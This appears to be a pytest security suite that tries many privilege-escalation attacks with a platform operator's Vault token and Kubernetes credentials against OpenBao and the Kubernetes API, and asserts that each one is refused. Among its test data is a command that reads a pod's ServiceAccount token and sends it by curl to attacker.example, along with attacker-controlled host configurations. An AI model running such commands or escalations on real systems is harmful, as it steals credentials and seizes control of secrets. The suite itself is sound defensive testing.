"""An attacker holding exactly the operator's credentials tries every way from them to a nation's keys.

The credentials: the operator's Vault token (policy sovereign-operator and `default`, made by platform setup
with create_operator_token) and its ServiceAccount's kubeconfig (the chart's roles), used with hvac, raw
HTTP and the real kubectl against the running local platform: OpenBao with its ACLs, the API server with
RBAC and the chart's ValidatingAdmissionPolicy. Two nations, LUX and NLD, provisioned by the real operator
(`nations`, tests/security/conftest.py); LUX has encrypted, signed and kept a record in KV through its own
Vault role first, so there is something to steal.

Each attack is one row of a table: what is sent, and what must refuse it, with the server's own answer:
- VAULT_ACL: Vault's ACL, 403 "permission denied" (Vault docs: /vault/docs/concepts/policies). For role and
  key writes that the operator may make, the ACL's `allowed_parameters` pin every parameter's value: a value
  or parameter outside them is refused with the same 403;
- VAULT_KUBERNETES_AUTH: the Kubernetes auth method's role binding (Vault docs: /vault/docs/auth/kubernetes);
- VAULT_LISTENER: OpenBao answers no unauthenticated generate-root or rekey on its listeners (405; OpenBao
  docs: /docs/configuration/listener/tcp, disable_unauthed_rekey_endpoints and generate-root's default);
- RBAC: the API server's authorizer, `... is forbidden: User "<operator>" cannot <verb> resource ...`
  (k8s docs: /docs/reference/access-authn-authz/rbac/);
- RBAC_ESCALATION: RBAC's escalation check on (Cluster)Role(Binding) writes ("attempting to grant RBAC
  permissions not currently held"; k8s docs: /docs/reference/access-authn-authz/rbac/
  #privilege-escalation-prevention-and-bootstrapping);
- ADMISSION: the chart's ValidatingAdmissionPolicy for the operator's ServiceAccount (k8s docs:
  /docs/reference/access-authn-authz/validating-admission-policy/), for writes RBAC must let through
  (RoleBindings, namespaces, ConfigMaps the operator makes in nations' namespaces).
Kubernetes writes are sent with server-side dry run: authorization, the escalation check and admission all
run, nothing is stored (k8s docs: /docs/reference/using-api/api-concepts/#dry-run), so a guard that is
missing fails its test without harming the shared platform.

Two tests show the same credentials still do the operator's work, so the refusals are not those of a
broken token. The last ones are escalations this suite found beyond the issue's list, now refused by the
chart's admission policy. What stays open by design (the operator chooses the code a nation's Ray cluster
runs, through its dashboard's Serve and Jobs APIs) is named in SECURITY.md as residual trust.
"""

from __future__ import annotations

import base64
import json
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import hvac
import pytest
import requests
from sovereign_devstack.operator_identity import USERNAME as OPERATOR

from sovereign.cli.as_nation import login_as_nation
from sovereign.clients.kubernetes import load_api_client
from sovereign.domain.nations import kv_prefix
from tests.devstack.kube_users import KubeUser
from tests.helpers import kubectl
from tests.operator.harness import Platform
from tests.operator.tenants import rotate_key_with_cli, tenant

ROOT = Path(__file__).resolve().parents[2]
NATION, KEY, ISSUER_KEY, NAMESPACE = "LUX", "tenant-lux", "tenant-lux-issuer", "tenant-lux"
SECRET = base64.b64encode(b"NATO SECRET // REL TO LUX").decode()
# Who refuses (see the module docstring).
VAULT_ACL = "Vault ACL"
VAULT_KUBERNETES_AUTH = "Vault Kubernetes auth role"
VAULT_LISTENER = "OpenBao's listener"
RBAC = "Kubernetes RBAC"
RBAC_ESCALATION = "Kubernetes RBAC escalation check"
ADMISSION = "the chart's ValidatingAdmissionPolicy"


# -- what LUX has that an attacker wants ------------------------------------------------------------------


@dataclass(frozen=True)
class Loot:
    """Values of LUX's own the attacks use: `<name>` in an attack's body is replaced by `values[name]`."""

    values: dict[str, str] = field(repr=False)

    def fill(self, body: Any) -> Any:
        if isinstance(body, str) and body.startswith("<") and body.endswith(">"):
            return self.values[body[1:-1]]
        if isinstance(body, dict):
            return {key: self.fill(value) for key, value in body.items()}
        if isinstance(body, list):
            return [self.fill(value) for value in body]
        return body


@pytest.fixture(scope="module")
def lux(nations: Platform) -> hvac.Client:
    """Vault as LUX: its model-serving ServiceAccount's token through Kubernetes auth, role tenant-lux."""
    return login_as_nation(
        load_api_client(str(nations.kube.kubeconfig)),
        nations.vault_url,
        NATION,
        verify=str(nations.vault_cacert),
    )


@pytest.fixture(scope="module")
def loot(nations: Platform, lux: hvac.Client) -> Loot:
    """LUX encrypts, makes a wrapped data key, signs and keeps a record in KV, through its own role."""
    transit = lux.secrets.transit
    ciphertext = transit.encrypt_data(KEY, plaintext=SECRET)["data"]["ciphertext"]
    wrapped = transit.generate_data_key(KEY, key_type="wrapped")["data"]["ciphertext"]
    signature = transit.sign_data(ISSUER_KEY, hash_input=SECRET)["data"]["signature"]
    notes = f"{kv_prefix(NATION)}/notes"
    lux.secrets.kv.v2.create_or_update_secret(path=notes, secret={"sources": "HUMINT"}, mount_point="secret")
    # sys/auth, which the operator may read, names the accessor the nation policy's template follows.
    auth = nations.vault(nations.operator_token).sys.list_auth_methods()["data"]
    accessor = auth["kubernetes/"]["accessor"]
    return Loot(
        {
            "ciphertext": ciphertext,
            "wrapped": wrapped,
            "signature": signature,
            "lux_token": lux.token,
            "kubernetes_accessor": accessor,
            "operator_jwt": nations.operator_identity.token_file.read_text().strip(),
        }
    )


# -- Vault -------------------------------------------------------------------------------------------------

# What an attacker would write into a policy of its choosing.
EVERYTHING = (
    'path "transit/*" { capabilities = ["update", "read"] }\npath "secret/*" { capabilities = ["read"] }'
)
# A Kubernetes auth role as the operator writes it; each attack changes one thing.
ROLE = {
    "bound_service_account_names": "model-serving",
    "bound_service_account_namespaces": NAMESPACE,
    "token_policies": "sovereign-nation",
    "token_ttl": "1h",
}
ANY_KEY = base64.b64encode(b"k" * 32).decode()  # key material the attacker knows


@dataclass(frozen=True)
class VaultAttack:
    id: str
    method: str
    path: str  # below /v1/
    body: dict[str, Any] | None = None
    refuser: str = VAULT_ACL

    def param(self) -> Any:
        return pytest.param(self, id=self.id)


def _role(**changes: Any) -> dict[str, Any]:
    return {key: value for key, value in {**ROLE, **changes}.items() if value is not None}


VAULT_ATTACKS = [
    # ACL policies: any policy the operator could write would be a grant of its choosing.
    *(
        VaultAttack(f"policy-write-{name}", "PUT", f"sys/policies/acl/{name}", {"policy": EVERYTHING})
        for name in ("tenant-lux", "tenant-zzz", "sovereign-nation", "sovereign-operator", "default")
    ),
    VaultAttack("policy-delete-sovereign-nation", "DELETE", "sys/policies/acl/sovereign-nation"),
    VaultAttack("policy-write-legacy-endpoint", "PUT", "sys/policy/tenant-zzz", {"policy": EVERYTHING}),
    # Kubernetes auth roles: tenant-* may be written, pinned to one shape by allowed_parameters.
    VaultAttack(
        "role-foreign-service-account",
        "POST",
        "auth/kubernetes/role/tenant-lux",
        _role(bound_service_account_names="attacker"),
    ),
    VaultAttack(
        "role-any-service-account",
        "POST",
        "auth/kubernetes/role/tenant-lux",
        _role(bound_service_account_names="*"),
    ),
    VaultAttack(
        "role-extra-service-account",
        "POST",
        "auth/kubernetes/role/tenant-lux",
        _role(bound_service_account_names="model-serving,attacker"),
    ),
    *(
        VaultAttack(
            f"role-namespace-{namespace}",
            "POST",
            "auth/kubernetes/role/tenant-lux",
            _role(bound_service_account_namespaces=namespace),
        )
        for namespace in ("sovereign-system", "kube-system", "*")
    ),
    *(
        VaultAttack(
            f"role-policy-{policy}", "POST", "auth/kubernetes/role/tenant-lux", _role(token_policies=policy)
        )
        for policy in ("sovereign-operator", "default", "root", "sovereign-nation,sovereign-operator")
    ),
    VaultAttack(
        "role-policy-by-legacy-parameter",
        "POST",
        "auth/kubernetes/role/tenant-lux",
        _role(token_policies=None, policies="sovereign-operator"),
    ),
    *(
        VaultAttack(
            f"role-extra-parameter-{name}", "POST", "auth/kubernetes/role/tenant-lux", _role(**{name: value})
        )
        for name, value in (
            ("token_no_default_policy", True),
            ("token_bound_cidrs", "0.0.0.0/0"),
            ("alias_name_source", "serviceaccount_name"),
            ("token_period", "768h"),
            ("token_type", "batch"),
            ("audience", "attacker"),
            ("bound_service_account_namespace_selector", '{"matchLabels": {}}'),  # every namespace
        )
    ),
    VaultAttack("role-ttl-longer", "POST", "auth/kubernetes/role/tenant-lux", _role(token_ttl="8760h")),
    VaultAttack(
        "role-json-lists",
        "POST",
        "auth/kubernetes/role/tenant-lux",
        {
            "bound_service_account_names": ["model-serving", "attacker"],
            "bound_service_account_namespaces": [NAMESPACE, "sovereign-system"],
            "token_policies": ["sovereign-nation", "sovereign-operator"],
            "token_ttl": "1h",
        },
    ),
    VaultAttack("role-not-a-nations", "POST", "auth/kubernetes/role/attacker", _role()),
    VaultAttack(
        "kubernetes-auth-config",
        "POST",
        "auth/kubernetes/config",
        {"kubernetes_host": "https://attacker.example:6443", "disable_local_ca_jwt": True},
    ),
    VaultAttack(
        "login-as-lux-with-the-operators-serviceaccount",
        "POST",
        "auth/kubernetes/login",
        {"role": "tenant-lux", "jwt": "<operator_jwt>"},
        VAULT_KUBERNETES_AUTH,
    ),
    # Tokens: one carrying a nation's policy, another's token, a token role to mint them.
    VaultAttack(
        "token-create-nation-policy", "POST", "auth/token/create", {"policies": ["sovereign-nation"]}
    ),
    VaultAttack("token-create-child", "POST", "auth/token/create", {"ttl": "768h"}),
    VaultAttack(
        "token-create-orphan", "POST", "auth/token/create-orphan", {"policies": ["sovereign-nation"]}
    ),
    VaultAttack(
        "token-role-write",
        "POST",
        "auth/token/roles/attacker",
        {"allowed_policies": "sovereign-nation", "orphan": True},
    ),
    VaultAttack("token-create-with-role", "POST", "auth/token/create/attacker", {}),
    VaultAttack("token-lookup-lux", "POST", "auth/token/lookup", {"token": "<lux_token>"}),
    VaultAttack("token-accessors", "LIST", "auth/token/accessors"),
    VaultAttack(
        "capabilities-of-lux-token",
        "POST",
        "sys/capabilities",
        {"token": "<lux_token>", "paths": ["transit/"]},
    ),
    # Identity: an entity or alias that a nation's templated policy would read its namespace from.
    VaultAttack(
        "entity-with-policy",
        "POST",
        "identity/entity",
        {"name": "attacker", "policies": ["sovereign-nation"]},
    ),
    VaultAttack(
        "entity-alias-with-lux-namespace",
        "POST",
        "identity/entity-alias",
        {
            "name": "attacker",
            "mount_accessor": "<kubernetes_accessor>",
            "custom_metadata": {"service_account_namespace": NAMESPACE},
        },
    ),
    VaultAttack(
        "group-with-policy", "POST", "identity/group", {"name": "attacker", "policies": ["sovereign-nation"]}
    ),
    # sys/: the platform's configuration.
    VaultAttack("enable-auth-method", "POST", "sys/auth/attacker", {"type": "userpass"}),
    VaultAttack("tune-kubernetes-auth", "POST", "sys/auth/kubernetes/tune", {"default_lease_ttl": "8760h"}),
    VaultAttack("mount-engine", "POST", "sys/mounts/attacker", {"type": "transit"}),
    VaultAttack("tune-transit", "POST", "sys/mounts/transit/tune", {"max_lease_ttl": "8760h"}),
    VaultAttack("remount-transit", "POST", "sys/remount", {"from": "transit", "to": "attacker"}),
    VaultAttack("raw-storage-read", "GET", "sys/raw/core/keyring"),
    VaultAttack("audit-list", "GET", "sys/audit"),
    VaultAttack(
        "audit-enable",
        "PUT",
        "sys/audit/attacker",
        {"type": "file", "options": {"file_path": "/tmp/stolen.log"}},
    ),
    VaultAttack("audit-disable", "DELETE", "sys/audit/file"),
    # Unauthenticated on old Vaults, off on OpenBao's listeners by default; the successor needs sudo.
    VaultAttack("generate-root", "POST", "sys/generate-root/attempt", {}, VAULT_LISTENER),
    VaultAttack(
        "rekey", "POST", "sys/rekey/init", {"secret_shares": 1, "secret_threshold": 1}, VAULT_LISTENER
    ),
    VaultAttack("rotate-root-key", "POST", "sys/rotate/root", {}),
    VaultAttack("raft-snapshot", "GET", "sys/storage/raft/snapshot"),
    VaultAttack("seal", "PUT", "sys/seal"),
    VaultAttack("revoke-every-nation-login", "PUT", "sys/leases/revoke-prefix/auth/kubernetes"),
    VaultAttack(
        "register-plugin", "PUT", "sys/plugins/catalog/secret/attacker", {"sha256": "00", "command": "sh"}
    ),
    # Transit: use a nation's key, or get its material out.
    VaultAttack("encrypt", "POST", f"transit/encrypt/{KEY}", {"plaintext": SECRET}),
    VaultAttack("decrypt", "POST", f"transit/decrypt/{KEY}", {"ciphertext": "<ciphertext>"}),
    VaultAttack("decrypt-wrapped-data-key", "POST", f"transit/decrypt/{KEY}", {"ciphertext": "<wrapped>"}),
    VaultAttack("rewrap", "POST", f"transit/rewrap/{KEY}", {"ciphertext": "<ciphertext>"}),
    VaultAttack("datakey-wrapped", "POST", f"transit/datakey/wrapped/{KEY}", {}),
    VaultAttack("sign-as-lux-issuer", "POST", f"transit/sign/{ISSUER_KEY}", {"input": SECRET}),
    VaultAttack(
        "verify-as-lux-issuer",
        "POST",
        f"transit/verify/{ISSUER_KEY}",
        {"input": SECRET, "signature": "<signature>"},
    ),
    VaultAttack("hmac", "POST", f"transit/hmac/{KEY}", {"input": SECRET}),
    VaultAttack("hmac-issuer-key", "POST", f"transit/hmac/{ISSUER_KEY}", {"input": SECRET}),
    VaultAttack("export-encryption-key", "GET", f"transit/export/encryption-key/{KEY}"),
    VaultAttack("export-signing-key", "GET", f"transit/export/signing-key/{ISSUER_KEY}"),
    VaultAttack("export-hmac-key", "GET", f"transit/export/hmac-key/{KEY}"),
    VaultAttack("backup", "GET", f"transit/backup/{KEY}"),
    VaultAttack("restore", "POST", "transit/restore/tenant-zzz", {"backup": ANY_KEY}),
    VaultAttack("make-exportable", "POST", f"transit/keys/{KEY}/config", {"exportable": True}),
    VaultAttack(
        "allow-plaintext-backup", "POST", f"transit/keys/{KEY}/config", {"allow_plaintext_backup": True}
    ),
    VaultAttack(
        "create-exportable-key",
        "POST",
        "transit/keys/tenant-zzz",
        {"type": "aes256-gcm96", "exportable": True},
    ),
    VaultAttack(
        "create-key-with-plaintext-backup",
        "POST",
        "transit/keys/tenant-zzz",
        {"type": "aes256-gcm96", "allow_plaintext_backup": True},
    ),
    VaultAttack(
        "import-known-key-for-a-nation-to-come",
        "POST",
        "transit/keys/tenant-zzz/import",
        {"type": "aes256-gcm96", "ciphertext": ANY_KEY},
    ),
    VaultAttack("import-key-version", "POST", f"transit/keys/{KEY}/import_version", {"ciphertext": ANY_KEY}),
    VaultAttack(
        "import-over-lux-key",
        "POST",
        f"transit/keys/{KEY}/import",
        {"type": "aes256-gcm96", "ciphertext": ANY_KEY},
    ),
    VaultAttack("trim", "POST", f"transit/keys/{KEY}/trim", {"min_available_version": 2}),
    VaultAttack("wrapping-key", "GET", "transit/wrapping_key"),
    # KV: what LUX keeps, and the rest of the mount.
    VaultAttack("kv-read-lux-record", "GET", f"secret/data/{kv_prefix(NATION)}/notes"),
    VaultAttack("kv-read-lux-record-metadata", "GET", f"secret/metadata/{kv_prefix(NATION)}/notes"),
    VaultAttack("kv-read-lux-record-subkeys", "GET", f"secret/subkeys/{kv_prefix(NATION)}/notes"),
    VaultAttack(
        "kv-overwrite-lux-record",
        "POST",
        f"secret/data/{kv_prefix(NATION)}/notes",
        {"data": {"sources": "none"}},
    ),
    VaultAttack("kv-read-outside-tenants", "GET", "secret/data/platform/config"),
    VaultAttack("kv-list-mount", "LIST", "secret/metadata"),
    VaultAttack("kv-config", "GET", "secret/config"),
]


def _vault(platform: Platform, token: str, method: str, path: str, body: Any) -> requests.Response:
    """One raw HTTP call to the platform's Vault, as `curl` or any client would make it."""
    return requests.request(
        method,
        f"{platform.vault_url}/v1/{path}",
        headers={"X-Vault-Token": token},
        json=body,
        verify=str(platform.vault_cacert),
        timeout=15,
    )


def _refused_by(answer: requests.Response, refuser: str) -> None:
    errors = answer.json().get("errors") if answer.content else None
    said = f"{answer.status_code} {errors or answer.text[:300]}"
    if refuser == VAULT_ACL:
        # OpenBao wraps it: "1 error occurred:\n\t* permission denied\n\n"
        assert answer.status_code == 403 and "* permission denied" in str(errors), said
    elif refuser == VAULT_LISTENER:
        assert answer.status_code == 405 and errors == ["unsupported operation"], said
    elif refuser == VAULT_KUBERNETES_AUTH:
        assert answer.status_code == 403 and "service account name not authorized" in str(errors), said
    else:  # pragma: no cover - a table row with an unknown refuser
        raise AssertionError(refuser)


@pytest.mark.parametrize("attack", [attack.param() for attack in VAULT_ATTACKS])
def test_vault_refuses_the_operators_token(nations: Platform, loot: Loot, attack: VaultAttack) -> None:
    """The attacker sends `attack` with the operator's Vault token; `attack.refuser` must refuse it."""
    answer = _vault(nations, nations.operator_token, attack.method, attack.path, loot.fill(attack.body))
    _refused_by(answer, attack.refuser)


def test_the_operators_token_carries_its_policy_only(nations: Platform) -> None:
    """The attacker's token is the operator's as platform setup made it: sovereign-operator and default,
    nothing else (a more specific rule in another policy would outrank the operator policy's denies)."""
    me = nations.vault(nations.operator_token).auth.token.lookup_self()["data"]
    assert sorted(me["policies"]) == ["default", "sovereign-operator"]
    assert not me.get("identity_policies")


# -- Kubernetes --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class KubeAttack:
    id: str
    args: tuple[str, ...]  # kubectl's arguments; a manifest, if any, goes to stdin (`-f -`)
    refuser: str
    manifest: dict[str, Any] | None = None

    def param(self) -> Any:
        return pytest.param(self, id=self.id)


def _role_binding(namespace: str, role: str, *subjects: dict[str, str], kind: str = "ClusterRole") -> dict:
    return {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "RoleBinding",
        "metadata": {"name": "attacker", "namespace": namespace},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": kind, "name": role},
        "subjects": list(subjects),
    }


OPERATOR_SA = {"kind": "ServiceAccount", "name": "sovereign-operator", "namespace": "sovereign-system"}
RBAC_GROUP = "rbac.authorization.k8s.io"
ATTACKERS = {"kind": "Group", "name": "attackers", "apiGroup": RBAC_GROUP}
DRY = "--dry-run=server"
CREATE = ("create", DRY, "-f", "-")
SECRETS_RULE = (
    '[{"op":"add","path":"/rules/-","value":{"apiGroups":[""],"resources":["secrets"],"verbs":["get"]}}]'
)


def _secret_for_model_serving() -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "Secret",
        "type": "kubernetes.io/service-account-token",
        "metadata": {
            "name": "attacker",
            "namespace": NAMESPACE,
            "annotations": {"kubernetes.io/service-account.name": "model-serving"},
        },
    }


KUBE_ATTACKS = [
    # A nation's ServiceAccount token: what its Vault role logs in with.
    KubeAttack("token-request", ("create", "token", "model-serving", "-n", NAMESPACE), RBAC),
    KubeAttack("legacy-token-secret", CREATE, RBAC, _secret_for_model_serving()),
    KubeAttack("read-secrets-of-a-nation", ("get", "secrets", "-n", NAMESPACE), RBAC),
    KubeAttack("read-secrets-everywhere", ("get", "secrets", "-A"), RBAC),
    # Pods, CSRs: the devstack serves neither (no kubelet); RBAC is asked directly (SelfSubjectAccessReview).
    *(
        KubeAttack(
            f"{verb}-{resource.replace('/', '-')}", ("auth", "can-i", verb, resource, "-n", NAMESPACE), RBAC
        )
        for verb, resource in (
            ("create", "pods/exec"),
            ("create", "pods"),
            ("get", "pods"),
            ("create", "pods/ephemeralcontainers"),
            # A client certificate for any name, once a signer approves it.
            ("create", "certificatesigningrequests"),
        )
    ),
    KubeAttack(
        "impersonate-a-nations-serviceaccount",
        (
            "create",
            "token",
            "model-serving",
            "-n",
            NAMESPACE,
            f"--as=system:serviceaccount:{NAMESPACE}:model-serving",
        ),
        RBAC,
    ),
    KubeAttack(
        "impersonate-system-masters",
        ("get", "secrets", "-A", "--as=admin", "--as-group=system:masters"),
        RBAC,
    ),
    # RoleBindings: in a nation's namespace, to sovereign-namespace-admin only, never for system: identities.
    KubeAttack(
        "bind-itself-namespace-admin",
        CREATE,
        ADMISSION,
        _role_binding(NAMESPACE, "sovereign-namespace-admin", OPERATOR_SA),
    ),
    KubeAttack(
        "bind-system-group-namespace-admin",
        CREATE,
        ADMISSION,
        _role_binding(
            NAMESPACE,
            "sovereign-namespace-admin",
            {"kind": "Group", "name": "system:serviceaccounts", "apiGroup": "rbac.authorization.k8s.io"},
        ),
    ),
    *(
        KubeAttack(
            f"bind-{name.replace(':', '-')}-namespace-admin",
            CREATE,
            ADMISSION,
            _role_binding(
                NAMESPACE, "sovereign-namespace-admin", {"kind": kind, "name": name, "apiGroup": RBAC_GROUP}
            ),
        )
        # Everyone who has not logged in, or every ServiceAccount in the operator's own namespace.
        for kind, name in (
            ("User", "system:anonymous"),
            ("Group", "system:unauthenticated"),
            ("Group", "system:serviceaccounts:sovereign-system"),
        )
    ),
    *(
        KubeAttack(
            f"bind-{role}-in-a-nation", CREATE, RBAC_ESCALATION, _role_binding(NAMESPACE, role, OPERATOR_SA)
        )
        for role in ("cluster-admin", "admin", "edit")
    ),
    KubeAttack(
        "bind-a-group-cluster-admin-in-a-nation",
        CREATE,
        RBAC_ESCALATION,
        _role_binding(NAMESPACE, "cluster-admin", ATTACKERS),
    ),
    *(
        KubeAttack(
            f"bind-namespace-admin-in-{namespace}",
            CREATE,
            ADMISSION,
            _role_binding(namespace, "sovereign-namespace-admin", ATTACKERS),
        )
        for namespace in ("kube-system", "default")
    ),
    # ClusterRoles and ClusterRoleBindings: none may be written.
    KubeAttack(
        "patch-namespace-admin-role",
        ("patch", "clusterrole", "sovereign-namespace-admin", "--type=json", "-p", SECRETS_RULE, DRY),
        RBAC,
    ),
    KubeAttack(
        "patch-its-own-role",
        ("patch", "clusterrole", "sovereign-operator", "--type=json", "-p", SECRETS_RULE, DRY),
        RBAC,
    ),
    KubeAttack(
        "patch-cluster-admin",
        ("patch", "clusterrole", "cluster-admin", "--type=json", "-p", SECRETS_RULE, DRY),
        RBAC,
    ),
    KubeAttack(
        "create-clusterrole",
        CREATE,
        RBAC,
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "ClusterRole",
            "metadata": {"name": "attacker"},
            "rules": [],  # grants nothing: only `create clusterroles` is asked
        },
    ),
    KubeAttack(
        "create-clusterrolebinding",
        ("create", "clusterrolebinding", "attacker", "--clusterrole=view", "--group=attackers", DRY),
        RBAC,
    ),
    # Namespaces: only nations' are the operator's to create and delete.
    *(
        KubeAttack(f"delete-namespace-{namespace}", ("delete", "namespace", namespace, DRY), ADMISSION)
        for namespace in ("kube-system", "default", "sovereign-system")
    ),
    KubeAttack("create-namespace-not-a-nations", ("create", "namespace", "attacker", DRY), ADMISSION),
    # Writes in namespaces that are not a nation's (RBAC grants ConfigMaps and ServiceAccounts everywhere).
    KubeAttack(
        "configmap-in-kube-system", ("create", "configmap", "attacker", "-n", "kube-system", DRY), ADMISSION
    ),
    KubeAttack(
        "serviceaccount-in-kube-system",
        ("create", "serviceaccount", "attacker", "-n", "kube-system", DRY),
        ADMISSION,
    ),
    # The cluster's guards themselves.
    KubeAttack("delete-admission-policies", ("delete", "validatingadmissionpolicies", "--all", DRY), RBAC),
    KubeAttack(
        "delete-admission-webhooks", ("delete", "validatingwebhookconfigurations", "--all", DRY), RBAC
    ),
]


def _operator(platform: Platform) -> KubeUser:
    return KubeUser(OPERATOR, platform.operator_identity.kubeconfig)


def _assert_kube_refused(result: subprocess.CompletedProcess[str], refuser: str) -> None:
    said = result.stderr.strip()
    assert result.returncode != 0, f"allowed:\n{result.stdout}"
    if result.stdout.startswith("no"):  # kubectl auth can-i: the authorizer's answer
        assert refuser == RBAC and result.stdout == "no\n", result.stdout
        return
    if refuser == RBAC:
        assert f'is forbidden: User "{OPERATOR}" cannot ' in said, said
    elif refuser == RBAC_ESCALATION:
        assert (
            "is forbidden: " in said and "attempting to grant RBAC permissions not currently held" in said
        ), said
    elif refuser == ADMISSION:
        # A policy without a `reason` answers 422 Invalid (k8s docs: /docs/reference/access-authn-authz/
        # validating-admission-policy/#validation-actions and the Validation's `reason` field).
        assert "ValidatingAdmissionPolicy '" in said and "denied request: " in said, said
    else:  # pragma: no cover - a table row with an unknown refuser
        raise AssertionError(refuser)


@pytest.mark.parametrize("attack", [attack.param() for attack in KUBE_ATTACKS])
def test_kubernetes_refuses_the_operators_serviceaccount(nations: Platform, attack: KubeAttack) -> None:
    """The attacker runs `kubectl <attack.args>` with the operator's kubeconfig; `attack.refuser` refuses."""
    manifest = json.dumps(attack.manifest) if attack.manifest is not None else None
    result = kubectl(_operator(nations), *attack.args, input=manifest, check=False)
    _assert_kube_refused(result, attack.refuser)


def test_no_runtime_lets_the_operator_request_a_nations_token(nations: Platform) -> None:
    """The attacker asks TokenRequest for LUX's model-serving with the operator's roles as rendered for each
    runtime, local-ray included (there the devstack's token projector, an identity of its own, writes the
    nations' tokens): RBAC refuses it on every one."""
    try:
        for runtime in ("local-ray", "kuberay", "none"):
            nations.operator_roles.grant(runtime)
            result = kubectl(
                _operator(nations), "create", "token", "model-serving", "-n", NAMESPACE, check=False
            )
            _assert_kube_refused(result, RBAC)
    finally:
        nations.operator_roles.grant("none")


@pytest.fixture(scope="module")
def kuberay_roles(nations: Platform, rayservice_crd: None) -> Iterator[None]:
    """The chart's roles for runtime kuberay (RayServices may be created), restored to the session's after."""
    nations.operator_roles.grant("kuberay")
    try:
        yield
    finally:
        nations.operator_roles.grant("none")


@pytest.fixture(scope="module")
def serving_image(nations: Platform) -> str:
    """The serving image the chart was installed with, as its admission policy names it (read as admin)."""
    policy = json.loads(
        kubectl(
            nations.kube, "get", "validatingadmissionpolicy", "sovereign-operator-scope", "-o", "json"
        ).stdout
    )
    expression = next(v for v in policy["spec"]["variables"] if v["name"] == "servingImage")["expression"]
    return str(expression).strip("'")


def _rayservice(
    namespace: str = NAMESPACE,
    service_account: str = "model-serving",
    image: str = "attacker",
    serve_config: str = "applications: []\n",
    **container: Any,
) -> dict[str, Any]:
    pod = {
        "spec": {
            "serviceAccountName": service_account,
            "containers": [{"name": "ray", "image": image, **container}],
        }
    }
    return {
        "apiVersion": "ray.io/v1",
        "kind": "RayService",
        "metadata": {"name": "attacker", "namespace": namespace},
        "spec": {
            "serveConfigV2": serve_config,
            "rayClusterConfig": {
                "headGroupSpec": {"rayStartParams": {}, "template": pod},
                "workerGroupSpecs": [],
            },
        },
    }


@pytest.mark.parametrize(
    "rayservice",
    [
        pytest.param(_rayservice(service_account="default"), id="a-nation-other-serviceaccount"),
        pytest.param(_rayservice(namespace="kube-system"), id="kube-system"),
        # Any other image would run the attacker's code with LUX's ServiceAccount token, i.e. LUX's keys.
        pytest.param(_rayservice(), id="the-attackers-image"),
    ],
)
def test_rayservices_run_only_the_serving_image_as_a_nations_serving_account(
    nations: Platform, kuberay_roles: None, rayservice: dict[str, Any]
) -> None:
    """The attacker, with the operator's roles for KubeRay, creates a RayService whose pods run as another
    ServiceAccount, outside a nation's namespace, or LUX's model-serving with an image of the attacker's: the
    chart's ValidatingAdmissionPolicy refuses it."""
    result = kubectl(_operator(nations), *CREATE, input=json.dumps(rayservice), check=False)
    _assert_kube_refused(result, ADMISSION)


# -- the same credentials still do the operator's work -----------------------------------------------------


def test_the_operators_credentials_still_provision_and_rotate(nations: Platform, lux: hvac.Client) -> None:
    """Not an attack: the nations are Ready (the fixture waited), LUX uses its own key, and a rotation asked
    with `sovereign keys rotate` is done by the operator with these very credentials."""
    before = tenant(nations.kube, "lux")["status"]["keyVersion"]
    assert rotate_key_with_cli(nations.kube, NATION) == before + 1
    sealed = lux.secrets.transit.encrypt_data(KEY, plaintext=SECRET)["data"]["ciphertext"]
    assert sealed.startswith(f"vault:v{before + 1}:")
    assert lux.secrets.transit.decrypt_data(KEY, ciphertext=sealed)["data"]["plaintext"] == SECRET


# -- found by this suite, closed by the chart's admission policy ------------------------------------------


def test_the_operator_cannot_rewrite_whom_a_nation_trusts(nations: Platform) -> None:
    """The attacker points LUX's Tenant at an issuer of its own (spec.identity with its own key set): the
    nation's gateway would then accept user tokens the attacker signs, up to LUX's clearance, which the same
    patch could raise. Nothing should let the operator's ServiceAccount change a Tenant's spec."""
    jwk = {"kty": "OKP", "crv": "Ed25519", "x": base64.urlsafe_b64encode(b"a" * 32).decode().rstrip("=")}
    identity = {"issuer": "https://attacker.example", "audience": "sovereign-lux", "jwks": {"keys": [jwk]}}
    patch = {
        "apiVersion": "sovereign.ai/v1alpha1",
        "kind": "Tenant",
        "metadata": {"name": "lux"},
        "spec": {"nation": NATION, "identity": identity, "clearance": "COSMIC TOP SECRET"},
    }
    # Server-side apply: one PATCH (`kubectl patch` would GET the Tenant first; the chart grants no get).
    apply = ("apply", "--server-side", "--force-conflicts", "--field-manager=attacker", DRY, "-f", "-")
    result = kubectl(_operator(nations), *apply, input=json.dumps(patch), check=False)
    _assert_kube_refused(result, ADMISSION)


def test_the_operators_token_still_writes_the_pinned_shapes(nations: Platform) -> None:
    """Not an attack: the role and key writes the table refuses differ from these by one parameter; these
    pass, so those refusals come from the pinned parameters and not from a missing grant."""
    token = nations.operator_token
    for method, path, body in [
        ("POST", "auth/kubernetes/role/tenant-lux", ROLE),  # as the operator writes it
        ("POST", "transit/keys/tenant-zzz", {"type": "aes256-gcm96"}),
        ("POST", "transit/keys/tenant-zzz/rotate", None),
        ("POST", "transit/keys/tenant-zzz/config", {"deletion_allowed": True}),
        ("DELETE", "transit/keys/tenant-zzz", None),  # the crypto-shred
        ("GET", "sys/policies/acl/sovereign-nation", None),
    ]:
        answer = _vault(nations, token, method, path, body)
        assert answer.status_code in (200, 204), f"{method} {path}: {answer.status_code} {answer.text[:300]}"


# What runs as a nation's model-serving holds its keys: the admission policy pins image and entrypoint.
STEAL = "cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- https://attacker.example"


def test_the_serving_image_runs_only_its_own_entrypoint(
    nations: Platform, kuberay_roles: None, serving_image: str
) -> None:
    """The attacker creates LUX's RayService with the chart's serving image as model-serving, but a command
    of its own that sends the pod's token out (then logs in to Vault as LUX): it should be refused."""
    rayservice = _rayservice(image=serving_image, command=["sh", "-c", STEAL])
    result = kubectl(_operator(nations), *CREATE, input=json.dumps(rayservice), check=False)
    _assert_kube_refused(result, ADMISSION)
